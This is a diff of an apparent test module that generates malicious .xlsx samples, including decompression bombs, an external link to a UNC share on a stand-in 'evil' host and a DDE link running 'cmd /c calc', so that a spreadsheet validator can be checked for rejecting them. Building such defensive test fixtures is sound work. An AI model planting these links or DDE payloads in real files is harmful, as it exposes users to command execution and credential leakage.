@@ -13,7 +13,7 @@ from .packages import HEAD, LABELS, MAIN, OFFICE, Book, Entry, form, form_lines,
 _GIB: Final = 1 << 30
 _SHEET: Final = "xl/worksheets/sheet1.xml"
 _CRASH: Final = ("file_crashed", "file_damaged")
-_FAR: Final = ("cells_too_far", "file_suspicious", *_CRASH)
+_FAR: Final = ("cells_too_far", "file_damaged")
 
 
 def _book(more: str = "", around: str = "", code: str = "H-NONE", **options: Any) -> Book:
@@ -145,12 +145,11 @@ def _links(code: str) -> bytes:
         '<externalReferences><externalReference r:id="rIdX1"/><externalReference r:id="rIdX2"/></externalReferences>'
     )
     target = "file:///\\\\evil\\share\\x.xlsx"
-    book.extra["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations(
-        [("rId1", "externalLinkPath", target)], "External"
-    )
+    elsewhere = relations([("rId1", "externalLinkPath", target)], "External")
     for number, link in enumerate(('<externalBook r:id="rId1"/>', '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), 1):
         xml = f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}">{link}</externalLink>'
         book.extra[f"xl/externalLinks/externalLink{number}.xml"] = xml
+        book.extra[f"xl/externalLinks/_rels/externalLink{number}.xml.rels"] = elsewhere
     return book.made()
 
 
@@ -201,7 +200,7 @@ HOSTILE: Final = (
     refused("bomb/many-parts.xlsx", lambda: _many_parts(150, 1 << 20), "inflates_too_far"),
     refused("bomb/overlapping.xlsx", _overlapping, "inflates_too_far", "file_suspicious"),
     refused("bomb/3000-parts.xlsx", lambda: _many_parts(3000, 0), "too_many_members"),
-    refused("bomb/100000-lines.xlsx", _long_list, "too_many_tallies", "inflates_too_far", "no_form", "file_crashed"),
+    refused("bomb/100000-lines.xlsx", _long_list, "too_many_lines", "file_crashed"),
     *(
         refused(
             f"entities/{name}-{part.rpartition('/')[2]}.xlsx",
